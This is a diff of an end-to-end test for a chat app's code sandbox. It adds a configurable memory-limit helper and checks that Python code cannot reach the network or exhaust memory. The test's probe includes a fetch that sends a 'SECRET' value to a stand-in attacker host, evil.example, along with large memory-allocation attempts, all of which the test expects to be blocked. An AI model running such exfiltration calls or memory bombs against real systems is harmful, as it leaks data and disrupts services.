@@ -27,14 +27,16 @@ async function openEcho(page: Page, chat: ChatPage): Promise<void> {
 const output = (answer: Locator, language: string) => answer.getByLabel(`Output of the ${language} code`);
 const status = (answer: Locator) => answer.locator('.code-run-status');
 
-async function setTimeLimit(page: Page, chat: ChatPage, seconds: number): Promise<void> {
-  const field = page.getByLabel('Time limit (seconds)');
+async function setCodeLimit(page: Page, chat: ChatPage, label: 'Time limit (seconds)' | 'Memory limit (MiB)', value: number): Promise<void> {
+  const field = page.getByLabel(label);
   if (!(await field.isVisible())) {
     await chat.openModelSettings();
     await page.getByText('Code settings').click();
   }
-  await field.fill(String(seconds));
+  await field.fill(String(value));
 }
+
+const setTimeLimit = (page: Page, chat: ChatPage, seconds: number) => setCodeLimit(page, chat, 'Time limit (seconds)', seconds);
 
 test('a JavaScript block runs: printed lines, errors and the returned value appear under it', async ({ page, chat }) => {
   await openEcho(page, chat);
@@ -147,7 +149,7 @@ test('code in the sandbox reaches no network, none of the app storage and no cha
   });
   await openEcho(page, chat);
   const appOrigin = new URL(baseURL ?? page.url()).origin;
-  const answer = await answerWith(chat, `${fence('js', escapeProbes(appOrigin))}\n\n${fence('python', "import js\ntry:\n    await js.fetch('https://evil.example/py?q=SECRET')\n    print('py-fetch LEAKED')\nexcept Exception as error:\n    print('py-fetch blocked', type(error).__name__)\ntry:\n    bytearray(2 ** 31 - 1)\n    print('py-huge LEAKED')\nexcept MemoryError:\n    print('py-huge blocked MemoryError')\nchunks = []\ntry:\n    for _ in range(40):\n        chunks.append(bytearray(10 ** 8))\n    print('py-growth LEAKED')\nexcept MemoryError:\n    print('py-growth blocked MemoryError', len(chunks) < 11)")}`);
+  const answer = await answerWith(chat, `${fence('js', escapeProbes(appOrigin))}\n\n${fence('python', "import js\ntry:\n    await js.fetch('https://evil.example/py?q=SECRET')\n    print('py-fetch LEAKED')\nexcept Exception as error:\n    print('py-fetch blocked', type(error).__name__)\ntry:\n    bytearray(2 ** 31 - 1)\n    print('py-huge LEAKED')\nexcept MemoryError:\n    print('py-huge blocked MemoryError')\nchunks = []\ntry:\n    for _ in range(40):\n        chunks.append(bytearray(10 ** 8))\n    print('py-growth LEAKED')\nexcept MemoryError:\n    print('py-growth blocked MemoryError', len(chunks) < 3)")}`);
   await answer.getByRole('button', { name: 'Run this JavaScript code' }).click();
   const shown = output(answer, 'JavaScript');
   await expect(status(answer).first()).toContainText('Finished', { timeout: 30_000 });
@@ -156,11 +158,12 @@ test('code in the sandbox reaches no network, none of the app storage and no cha
   expect(lines.map((line) => line.split(' ').slice(0, 2).join(' '))).toEqual(names.map((name) => (name === 'worker-channel' ? 'worker-channel posted' : `${name} blocked`)));
   expect(lines.find((line) => line.startsWith('huge-buffer'))).toBe('huge-buffer blocked RangeError');
 
+  // A lower memory limit, set as a person would: the growth below must stop near it.
+  await setCodeLimit(page, chat, 'Memory limit (MiB)', 256);
   await answer.getByRole('button', { name: 'Run this Python code' }).click();
   await expect(output(answer, 'Python')).toContainText('py-fetch blocked', { timeout: 120_000 });
   await expect(output(answer, 'Python')).toContainText('py-huge blocked MemoryError');
-  // The default limit is 1 GiB: the growth stops near it, not at wasm's 4 GiB.
-  await expect(output(answer, 'Python')).toContainText('py-growth blocked MemoryError True');
+  await expect(output(answer, 'Python')).toContainText('py-growth blocked MemoryError True', { timeout: 60_000 });
   await expect(output(answer, 'Python')).not.toContainText('LEAKED');
 
   // Nothing forged reached the app, and the app's storage is as it was.
